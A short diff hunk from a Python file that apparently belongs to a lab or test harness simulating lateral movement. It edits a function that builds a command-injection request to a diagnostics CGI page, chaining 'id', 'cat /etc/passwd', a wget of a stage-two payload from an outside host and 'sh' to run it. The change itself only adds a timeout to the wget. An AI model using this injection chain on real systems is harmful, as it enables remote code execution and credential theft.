@@ -109,7 +109,7 @@ def _drop(outside: str) -> tuple[str, ...]:
 
 def _lateral(backend: RunningPod, outside: str) -> str:
     """A request to the diagnostics page with a command behind its parameter."""
-    fetch = f"wget -q -O /tmp/.s http://{outside}:{DROP_PORT}/stage2"
+    fetch = f"wget -q -T 3 -O /tmp/.s http://{outside}:{DROP_PORT}/stage2"
     injected = quote(f"127.0.0.1;id;cat /etc/passwd;{fetch};sh /tmp/.s", safe=";:/")
     return f"wget -q -O - 'http://{backend.address}:{_ADMIN_PORT}/cgi-bin/diagnostics?host={injected}'"
 
